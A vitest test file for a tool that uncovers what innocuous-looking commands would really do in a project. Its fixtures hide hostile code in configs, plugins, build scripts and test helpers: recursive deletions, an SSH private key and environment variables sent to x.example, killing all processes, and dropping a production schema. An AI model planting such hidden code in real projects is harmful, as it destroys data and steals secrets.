import { expect, test } from 'vitest'
import { type Files, linesOf } from '../../testing/project-lines.ts'

const wrapper = { gradlew: '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar "$@"\n' }

/** A harmless looking command whose project does something else: the start of the line that tells. */
test.each<readonly [name: string, command: string, files: Files, line: string]>([
  [
    'a list of commands in another file',
    'python check.py',
    {
      'check.py': 'import subprocess\nfrom steps import STEPS\ndef sh(*argv): subprocess.run(argv)\nfor s in STEPS: sh(*s)\n',
      'steps.py': 'STEPS = [("ruff", "check"), ("git", "push", "--mirror", "origin")]\n',
    },
    'publish:',
  ],
  [
    'a record of another file',
    'node a.mjs',
    {
      'a.mjs': "import { rmSync } from 'node:fs'\nimport { places } from './b.mjs'\nfor (const p of Object.values(places)) rmSync(p)",
      'b.mjs': "export const places = { a: '/opt/x' }",
    },
    'delete /opt/x',
  ],
  [
    'a command in each project',
    'nx exec -- rm -rf src',
    { 'package.json': '{"workspaces":["p/*"]}', 'p/a/package.json': '{"name":"a"}', 'p/a/src/x.ts': '' },
    'delete p/a/src',
  ],
  [
    'a rule for Markdown',
    'markdownlint-cli2 a.md',
    { '.markdownlint-cli2.jsonc': '{"customRules":["./r.cjs"]}', 'r.cjs': "require('fs').rmSync('/opt/x')\n" },
    'delete /opt/x',
  ],
  [
    'settings of a spelling check',
    'cspell a.md',
    { 'cspell.config.mjs': "import { rmSync } from 'node:fs'\nrmSync('/opt/x')\n" },
    'delete /opt/x',
  ],
  [
    'a plug-in of Expo',
    'expo config',
    { 'app.json': '{"expo":{"name":"a","plugins":["./plugins/x"]}}', 'plugins/x.js': "require('fs').rmSync('/opt/x')\n" },
    'delete /opt/x',
  ],
  [
    'settings of webpack by way of WordPress',
    'wp-scripts build',
    { 'webpack.config.js': "require('fs').rmSync('/opt/x')\n" },
    'delete /opt/x',
  ],
  ['a sniff', 'phpcs src', { 'sniffs/X/Sniffs/A/BSniff.php': "<?php\nexec('rm -rf /opt/x');\n" }, 'delete /opt/x'],
  ['a script of zx', 'zx a.mjs', { 'a.mjs': "await fs.emptyDir('/opt/x')\n" }, 'delete /opt/x'],
  [
    'settings of phpstan by their newer name',
    'phpstan analyse',
    { 'phpstan.dist.neon': 'parameters:\n  bootstrapFiles:\n    - tools/b.php\n', 'tools/b.php': "<?php\nexec('rm -rf /opt/x');\n" },
    'delete /opt/x',
  ],
  ['settings of webpack by way of Symfony', 'encore dev', { 'webpack.config.js': "require('fs').rmSync('/opt/x')\n" }, 'delete /opt/x'],
  [
    'what loads the data of a page',
    'vitepress build docs',
    { 'docs/posts.data.ts': "import { execSync } from 'node:child_process'\nexport default { load: () => execSync('rm -rf /opt/x') }" },
    'delete /opt/x',
  ],
  ['data of a site', 'eleventy', { '_data/a.js': "require('child_process').execSync('rm -rf /opt/x')\n" }, 'delete /opt/x'],
  [
    'a command that empties what a class stands for',
    'php bin/console app:sweep',
    {
      'bin/console': '<?php',
      'src/Command/Sweep.php':
        "<?php\n#[AsCommand(name: 'app:sweep')]\nclass Sweep { function execute() { $this->em->createQuery('DELETE FROM App\\Cart c')->execute(); } }",
    },
    'database:write createQuery',
  ],
  [
    'a module of nuxt that lies in its folder',
    'nuxt build',
    { 'modules/a.ts': "import { rmSync } from 'node:fs'\nrmSync('/opt/x', { recursive: true })\nexport default () => {}" },
    'delete /opt/x',
  ],
  [
    'a layer of nuxt',
    'nuxt typecheck',
    { 'layers/base/nuxt.config.ts': "import { rmSync } from 'node:fs'\nrmSync('/opt/x')\nexport default {}" },
    'delete /opt/x',
  ],
  [
    'a plugin of its server',
    'nuxt dev',
    { 'server/plugins/a.ts': "import { rmSync } from 'node:fs'\nexport default defineNitroPlugin(() => rmSync('/opt/x'))" },
    'delete /opt/x',
  ],
  [
    'what starts with a server',
    'next dev',
    { 'instrumentation.ts': "import { rmSync } from 'node:fs'\nexport function register() { rmSync('/opt/x') }" },
    'delete /opt/x',
  ],
  [
    'a script around a step',
    'cap copy ios',
    { 'package.json': '{"name":"a","scripts":{"capacitor:copy:before":"rm -rf /opt/x"}}' },
    'delete /opt/x',
  ],
  [
    'a program by kind of file',
    'nodemon a.ts',
    { 'package.json': '{"name":"a","nodemonConfig":{"execMap":{"ts":"rm -rf /opt/x"}}}', 'a.ts': '' },
    'delete /opt/x',
  ],
  ['routes', 'bin/rails routes', { 'config/routes.rb': "system('rm -rf /opt/x')\n" }, 'delete /opt/x'],
  ['settings of a server', 'bin/rails server', { 'config/puma.rb': "FileUtils.rm_rf('/opt/x')\n" }, 'delete /opt/x'],
  ['tasks that are only listed', 'rake -T', { Rakefile: '', 'lib/tasks/a.rake': "sh 'rm -rf /opt/x'\n" }, 'delete /opt/x'],
  [
    'gems from a place that settings name',
    'bundle install',
    { Gemfile: "source 'https://rubygems.org'\n", '.bundle/config': '---\nBUNDLE_MIRROR__ALL: "https://gems.example"\n' },
    'install:url https://gems.example',
  ],
  ['a script by the name of a verb', 'pnpm deploy', { 'package.json': '{"scripts":{"deploy":"rm -rf /opt/x"}}' }, 'delete /opt/x'],
  [
    'any file of a folder',
    'node a.js',
    {
      'a.js': "fs.readdirSync('rules').map((f) => require('./rules/' + f))",
      'rules/x.js': "require('child_process').execSync('rm -rf /opt/x')",
    },
    'delete /opt/x',
  ],
  [
    'a hook that is registered',
    'node a.mjs',
    {
      'a.mjs': "import { register } from 'node:module'\nregister('./b.mjs', import.meta.url)",
      'b.mjs': "import cp from 'child_process'\ncp.execSync('rm -rf /opt/x')",
    },
    'delete /opt/x',
  ],
  [
    'the home folder of the user',
    'node a.mjs',
    { 'a.mjs': "import os from 'os'; import fs from 'fs'\nfs.rmSync(os.userInfo().homedir + '/x')" },
    'delete ~/x',
  ],
  [
    'a list of arguments of C#',
    'dotnet test',
    {
      'a.csproj': '',
      'ATests.cs':
        'class A { void F() { var p = new ProcessStartInfo("bash") { ArgumentList = { "-c", "rm -rf /opt/x" } }; Process.Start(p); } }\n',
    },
    'delete /opt/x',
  ],
  [
    'pairs of a map',
    'node a.mjs',
    { 'a.mjs': "import fs from 'fs'\nfor (const [, p] of new Map([['a', '/opt/x']])) fs.rmSync(p)" },
    'delete /opt/x',
  ],
  [
    'a key poured into a request',
    'node a.mjs',
    {
      'a.mjs':
        "import fs from 'fs'; import https from 'https'\nconst r = https.request('https://x.example', { method: 'PUT' })\nfs.createReadStream(process.env.HOME + '/.ssh/id_rsa').pipe(r)",
    },
    'send:data',
  ],
  [
    'files that a task cleans',
    'grunt',
    { 'Gruntfile.js': "module.exports = (g) => { g.initConfig({ clean: { all: ['/opt/x'] } }) }" },
    'delete /opt/x',
  ],
  [
    'an executor of the project',
    'nx run core:lint',
    {
      'libs/core/project.json': '{"targets":{"lint":{"executor":"./tools/ex:lint"}}}',
      'tools/ex/executors.json': '{"executors":{"lint":{"implementation":"./lint.js"}}}',
      'tools/ex/lint.js': "require('child_process').execSync('rm -rf /opt/x')",
    },
    'delete /opt/x',
  ],
  ['settings that extend others elsewhere', 'tsc', { 'tsconfig.json': '{"extends":"/opt/x/tsconfig.json"}' }, 'unknown: runs `/opt/x'],
  [
    'a session',
    'nox -s lint',
    { 'noxfile.py': 'import nox\n@nox.session\ndef lint(s):\n    s.run("kubectl", "delete", "namespace", "x", external=True)\n' },
    'infra:destroy',
  ],
  [
    'actions of a task',
    'doit lint',
    { 'dodo.py': 'D = "/opt/x"\ndef task_lint():\n    return {"actions": [f"rm -rf {D}"]}\n' },
    'delete /opt/x',
  ],
  [
    'a script of an environment',
    'hatch run lint:check',
    { 'pyproject.toml': '[tool.hatch.envs.lint.scripts]\ncheck = "rm -rf /opt/x"\n' },
    'delete /opt/x',
  ],
  [
    'a helper of tests',
    'bats test',
    { 'test/a.bats': 'load h\n@test "x" { prep; }\n', 'test/h.bash': 'prep() { rm -rf /opt/x; }\n' },
    'delete /opt/x',
  ],
  [
    'a database that others live on',
    'wdio run wdio.conf.js',
    {
      'wdio.conf.js': "require('./b')",
      'b.js': "const { Client } = require('pg')\nconst c = new Client('db.prod.internal')\nexports.f = () => c.query('DROP SCHEMA public')",
    },
    'database:',
  ],
  [
    'properties of a build in XML',
    'ant',
    { 'build.xml': '<project><property name="r" value="/opt"/><delete dir="${r}/x"/></project>' },
    'delete /opt/x',
  ],
  ['the home folder in a build in XML', 'mvn test', { 'pom.xml': '<project><delete dir="${user.home}/x"/></project>' }, 'delete ~/x'],
  [
    'code in a build in XML',
    'dotnet build',
    { 'a.csproj': '<Project><Code Type="Fragment"><![CDATA[Directory.Delete("/opt/x", true);]]></Code></Project>' },
    'delete /opt/x',
  ],
  [
    'a local module',
    'terraform plan',
    { 'main.tf': 'module "a" {\n  source = "./m"\n}\n', 'm/main.tf': 'data "external" "x" {\n  program = ["rm", "-rf", "/opt/x"]\n}\n' },
    'delete /opt/x',
  ],
  [
    'a macro of Rust',
    'cargo build',
    { 'Cargo.toml': '', 'mac/src/lib.rs': '#[proc_macro]\npub fn go(i: T) -> T { std::fs::remove_dir_all("/opt/x"); i }\n' },
    'delete /opt/x',
  ],
  [
    'a package that a build script uses',
    'cargo build',
    { 'build.rs': 'fn main() { prep::go(); }\n', 'prep/src/lib.rs': 'pub fn go() { std::fs::remove_dir_all("/opt/x").unwrap(); }\n' },
    'delete /opt/x',
  ],
  [
    'what a function of Rust gives back',
    'cargo build',
    {
      'build.rs':
        'mod s { pub fn root() -> PathBuf { PathBuf::from(std::env::var("HOME").unwrap()) } }\nfn main() { let p = s::root().join("x"); std::fs::remove_dir_all(&p).ok(); }\n',
    },
    'delete ~/x',
  ],
  [
    'a field of an object of Rust',
    'cargo test',
    {
      'tests/a.rs':
        'struct G { dir: std::path::PathBuf }\nimpl G { fn new() -> Self { G { dir: dirs::home_dir().unwrap().join("x") } } }\nimpl Drop for G { fn drop(&mut self) { std::fs::remove_dir_all(&self.dir).ok(); } }\n',
    },
    'delete ~/x',
  ],
  [
    'a macro of Elixir',
    'mix compile',
    { 'mix.exs': '', 'lib/m.ex': 'defmodule M do\n  defmacro go, do: File.rm_rf!("/opt/x")\nend\n' },
    'delete /opt/x',
  ],
  [
    'an attribute of Elixir',
    'mix lint',
    {
      'mix.exs': '',
      'lib/mix/tasks/lint.ex': 'defmodule L do\n  @d System.user_home!()\n  def run(_), do: File.rm_rf!(Path.join(@d, "x"))\nend\n',
    },
    'delete ~/x',
  ],
  [
    'variables that Go hands over',
    'go run a.go',
    { 'a.go': 'package main\nimport "os"\nfunc main() { b := enc(os.Environ()); http.Post("https://x.example", "a", b) }\n' },
    'send:data',
  ],
  [
    'a field of an object of Go',
    'go test',
    {
      'a_test.go':
        'package x\ntype e struct{ home string }\nfunc (v *e) f() { os.RemoveAll(fmt.Sprintf("%s/x", v.home)) }\nfunc g() { h := &e{home: os.Getenv("HOME")}; h.f() }\n',
    },
    'delete ~/x',
  ],
  [
    'steps of Go',
    'go run a.go',
    {
      'a.go':
        'package main\nvar steps = []step{{"go", []string{"vet"}}, {"rm", []string{"-rf", "/opt/x"}}}\nfunc main() { for _, s := range steps { exec.Command(s.name, s.args...).Run() } }\n',
    },
    'delete /opt/x',
  ],
  [
    'lines that Go embeds',
    'go run a.go',
    {
      'a.go':
        'package main\n//go:embed s.txt\nvar s string\nfunc main() { for _, l := range lines(s) { exec.Command("sh", "-c", l).Run() } }\n',
      's.txt': 'rm -rf /opt/x\n',
    },
    'delete /opt/x',
  ],
  ['all processes of Go', 'go test', { 'a_test.go': 'package x\nfunc f() { syscall.Kill(-1, syscall.SIGKILL) }\n' }, 'process:all'],
  [
    'an object of PHP',
    'php a.php',
    {
      'a.php': "<?php\nrequire 'b.php';\n(new S(getenv('HOME')))->go();\n",
      'b.php':
        "<?php\nclass S {\n  function __construct(private string $r) {}\n  function go() { exec('rm -rf ' . escapeshellarg($this->r) . '/x'); }\n}\n",
    },
    'delete ~/x',
  ],
  [
    'a class by its namespace',
    'php a.php',
    {
      'a.php': '<?php\n(new App\\Boot())->go();\n',
      'src/Boot.php': "<?php\nclass Boot {\n  const C = 'rm -rf /opt/x';\n  function go() { exec(self::C); }\n}\n",
    },
    'delete /opt/x',
  ],
  [
    'a static property of PHP',
    'php a.php',
    {
      'a.php':
        "<?php\nclass A {\n  private static array $d = ['/opt/x'];\n  static function f() { foreach (self::$d as $p) { rmdir($p); } }\n}\n",
    },
    'delete /opt/x',
  ],
  ['an expression in a text of Ruby', 'ruby a.rb', { 'a.rb': 'system("rm -rf #{ENV["HOME"]}/x")\n' }, 'delete ~/x'],
  ['a text on the next lines of Ruby', 'ruby a.rb', { 'a.rb': 'sh <<~SH\n  rm -rf /opt/x\nSH\n' }, 'delete /opt/x'],
  [
    'an object of Ruby',
    'ruby a.rb',
    { 'a.rb': 'class C\n  def initialize(d)\n    @d = d\n  end\n  def go\n    FileUtils.rm_rf(@d)\n  end\nend\nC.new("/opt/x").go\n' },
    'delete /opt/x',
  ],
  [
    'a field of an object of Perl',
    'perl a.pl',
    { 'a.pl': 'use File::Path;\nsub run { my $self = shift; remove_tree("$self->{root}/x") }\nA->new(root => $ENV{HOME})->run;\n' },
    'delete ~/x',
  ],
  [
    'a module that tests of Perl load',
    'prove t',
    { 't/a.t': 'use lib "t/lib"; use Setup;\n', 't/lib/Setup.pm': 'package Setup;\nsub import { system("rm -rf /opt/x") }\n1;\n' },
    'delete /opt/x',
  ],
  [
    'a module of Lua',
    'busted spec',
    {
      'spec/a_spec.lua': 'local h = require("spec.h")\nh.reset()\n',
      'spec/h.lua': 'local M = {}\nlocal r = os.getenv("HOME") .. "/x"\nfunction M.reset() os.execute("rm -rf " .. r) end\nreturn M\n',
    },
    'delete ~/x',
  ],
  [
    'a file that Julia includes',
    'julia a.jl',
    { 'a.jl': 'include("b.jl")\nclean()\n', 'b.jl': 'clean() = rm("/opt/x", recursive=true)\n' },
    'delete /opt/x',
  ],
  [
    'a plugin in buildSrc',
    './gradlew check',
    {
      ...wrapper,
      'buildSrc/src/main/java/x/P.java':
        'class P { File root = new File(System.getProperty("user.home")); void f() { wipe(new File(root, "x")); } void wipe(File f) { f.delete(); } }\n',
    },
    'delete ~/x',
  ],
  [
    'a constant that starts itself',
    './gradlew test',
    { ...wrapper, 'src/test/groovy/B.groovy': "class B { static final String CMD = 'rm -rf /opt/x'\n def f() { CMD.execute() } }\n" },
    'delete /opt/x',
  ],
  [
    'what C# makes of each',
    'dotnet test',
    {
      'a.csproj': '',
      'ATests.cs':
        'class A { static string Home => Environment.GetEnvironmentVariable("HOME"); void F() { foreach (var d in N.Select(n => Path.Combine(Home, n))) Directory.Delete(d, true); } }\n',
    },
    'delete ~/',
  ],
  [
    'a helper of C#',
    'dotnet test',
    {
      'a.csproj': '',
      'ATests.cs': 'class A { static void Run(string f, string a) => Process.Start(f, a);\n void F() { Run("rm", "-rf /opt/x"); } }\n',
    },
    'delete /opt/x',
  ],
  [
    'variables that C# hands over',
    'dotnet test',
    {
      'a.csproj': '',
      'ATests.cs':
        'class A { async Task F() { await c.PostAsync("https://x.example", new StringContent(S(Environment.GetEnvironmentVariables()))); } }\n',
    },
    'send:data',
  ],
  [
    'the package around a module',
    'python3 a.py',
    { 'a.py': 'from lib.deep import x\n', 'lib/__init__.py': 'import os\nos.system("rm -rf /opt/x")\n', 'lib/deep.py': 'x = 1\n' },
    'delete /opt/x',
  ],
  ['the package of tests', 'pytest tests', { 'tests/__init__.py': 'import os\nos.system("rm -rf /opt/x")\n' }, 'delete /opt/x'],
  ['settings of spiders', 'scrapy list', { 'shop/settings.py': 'import os\nos.system("rm -rf /opt/x")\n' }, 'delete /opt/x'],
  ['pipelines that are listed', 'airflow dags list', { 'dags/a.py': 'import os\nos.system("rm -rf /opt/x")\n' }, 'delete /opt/x'],
  ['a line for the shell in IPython', 'ipython a.ipy', { 'a.ipy': '!rm -rf /opt/x\n' }, 'delete /opt/x'],
  [
    'an example in the documentation of Rust',
    'cargo test --doc',
    { 'src/lib.rs': '//! ```\n//! std::fs::remove_dir_all("/opt/x").unwrap();\n//! ```\n' },
    'delete /opt/x',
  ],
  ['rules that a build was set up with', 'cmake --build out', { 'out/Makefile': 'all:\n\trm -rf /opt/x\n' }, 'delete /opt/x'],
  [
    'a module of Terraform in any folder',
    'terraform plan',
    { 'main.tf': 'module "m" { source = "./m" }\n', 'm/main.tf': 'data "external" "x" { program = ["rm", "-rf", "/opt/x"] }\n' },
    'delete /opt/x',
  ],
  [
    'a file above the folder in PHP',
    'php bin/a.php',
    { 'bin/a.php': "<?php require dirname(__DIR__) . '/b.php';\n", 'b.php': "<?php system('rm -rf /opt/x');\n" },
    'delete /opt/x',
  ],
  [
    'a list of gems in another file',
    'bundle install',
    { Gemfile: "eval_gemfile 'more/Gemfile.local'\n", 'more/Gemfile.local': '`rm -rf /opt/x`\n' },
    'delete /opt/x',
  ],
  ['settings that Ruby fills in', 'rubocop', { '.rubocop.yml': 'AllCops:\n  Exclude: <%= `rm -rf /opt/x` %>\n' }, 'delete /opt/x'],
  ['settings of busted', 'busted', { '.busted': 'os.execute("rm -rf /opt/x")\nreturn {}\n' }, 'delete /opt/x'],
  ['a file that vim sources', 'vim -es -c "source a.vim" -c q b.txt', { 'a.vim': 'silent !rm -rf /opt/x\n' }, 'delete /opt/x'],
  ['a template of mise', 'mise ls', { 'mise.toml': '[env]\nA = "{{ exec(command=\'rm -rf /opt/x\') }}"\n' }, 'delete /opt/x'],
  ['settings of irb', "echo 'puts 1' | irb", { '.irbrc': '`rm -rf /opt/x`\n' }, 'delete /opt/x'],
  [
    'settings of nbconvert',
    'jupyter nbconvert a.ipynb',
    { 'jupyter_nbconvert_config.py': 'import os\nos.system("rm -rf /opt/x")\n' },
    'delete /opt/x',
  ],
  [
    'a file that awk includes',
    "gawk -i lib.awk 'BEGIN { print 1 }'",
    { 'lib.awk': 'BEGIN { system("rm -rf /opt/x") }\n' },
    'delete /opt/x',
  ],
  [
    'a file that the client of a database reads first',
    'sqlite3 -init a.sql :memory: "select 1"',
    { 'a.sql': '.shell rm -rf /opt/x\n' },
    'delete /opt/x',
  ],
  ['a file that it is told to read', 'sqlite3 :memory: ".read a.sql"', { 'a.sql': '.shell rm -rf /opt/x\n' }, 'delete /opt/x'],
  [
    'commands of an editor in quotes of either kind',
    'vim -es -S a.vim a.txt',
    { 'a.vim': "call system('rm -rf /opt/x')\n" },
    'delete /opt/x',
  ],
  ['a plot', 'gnuplot a.gp', { 'a.gp': 'system("rm -rf /opt/x")\nplot sin(x)\n' }, 'delete /opt/x'],
  ['a diff that is a script of ed', 'patch a.txt < x.diff', { 'x.diff': '1!rm -rf /opt/x\nw\n', 'a.txt': 'a\n' }, 'delete /opt/x'],
  ['a diff of no file', 'patch < x.diff', { 'x.diff': 'Index: a.txt\n1,2c\nx\n.\n' }, 'unknown: an ed script'],
  ['words that a file holds', '$(<a.txt)', { 'a.txt': 'rm -rf /opt/x\n' }, 'delete /opt/x'],
  ['words that a file holds, read into a list', 'mapfile -t c < a.txt; "${c[@]}"', { 'a.txt': 'rm\n-rf\n/opt/x\n' }, 'delete /opt/x'],
])('%s', (_name, command, files, line) => {
  const lines = linesOf(command, files)
  expect(
    lines.filter((one) => one.startsWith(line)),
    lines.join('; '),
  ).not.toEqual([])
})

/** The same forms doing the project's own work. */
test.each<readonly [name: string, command: string, files: Files]>([
  [
    'variables for a program that Go starts',
    'go test',
    { 'a_test.go': 'package x\nfunc f() { cmd.Env = append(os.Environ(), "A=1"); http.Post(url, "a", nil) }\n' },
  ],
  [
    'a field that holds a temp folder',
    'cargo test',
    {
      'tests/a.rs':
        'struct G { dir: PathBuf }\nimpl G { fn new() -> Self { G { dir: std::env::temp_dir().join("x") } } }\nimpl Drop for G { fn drop(&mut self) { std::fs::remove_dir_all(&self.dir).ok(); } }\n',
    },
  ],
  [
    'a helper that asks',
    'dotnet test',
    {
      'a.csproj': '',
      'ATests.cs': 'class A { static void Run(string f, string a) => Process.Start(f, a);\n void F() { Run("git", "status --short"); } }\n',
    },
  ],
  [
    'a command that is put together',
    'node a.mjs',
    {
      'a.mjs':
        "import { execSync } from 'child_process'\nexecSync(`git -C ${process.argv[2]} remote add origin https://x.example`)\nexecSync(`rm -rf ${process.argv[3]}`)",
    },
  ],
  [
    'a database of tests',
    'wdio run wdio.conf.js',
    {
      'wdio.conf.js': "require('./b')",
      'b.js': "const { Client } = require('pg')\nconst c = new Client('localhost')\nexports.f = () => c.query('DROP SCHEMA public')",
    },
  ],
])('%s stays project code', (_name, command, files) => {
  expect(linesOf(command, files).filter((line) => !/^(?:execute:project|write|read|connect:listen)/.test(line))).toEqual([])
})
